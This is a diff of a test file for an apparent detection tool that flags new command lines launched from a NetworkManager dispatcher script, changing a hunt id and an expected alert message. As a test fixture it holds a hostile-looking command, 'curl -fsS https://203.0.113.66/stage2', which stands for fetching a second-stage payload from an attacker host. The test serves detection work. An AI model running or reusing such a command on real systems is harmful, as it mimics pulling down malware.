@@ -60,10 +60,10 @@ describe('each alert carries the next step', () => {
   });
 
   it('says what the baseline knew beside a new command line', () => {
-    const hunt = huntById('dispatcher-child-process')!;
+    const hunt = huntById('dispatcher-script-child')!;
     const script = '/etc/NetworkManager/dispatcher.d/99-vpn';
     const known = entryFromFinding(hunt, childFinding(script, '/usr/bin/curl', 'curl -fsS https://updates.example.com/routes'), 'learned', '2026-11-20T02:00:00.000Z');
     const fresh = entryFromFinding(hunt, childFinding(script, '/usr/bin/curl', 'curl -fsS https://203.0.113.66/stage2'), 'pending', '2026-11-25T02:00:00.000Z');
-    assert.equal(explainNovelty(hunt, fresh, [known]), 'parent and child /usr/bin/curl known, new command line; known: curl -fsS https://updates.example.com/routes');
+    assert.equal(explainNovelty(hunt, fresh, [known]), 'script and child /usr/bin/curl known, new masked command line; known: curl -fsS https://updates.example.com/routes');
   });
 });
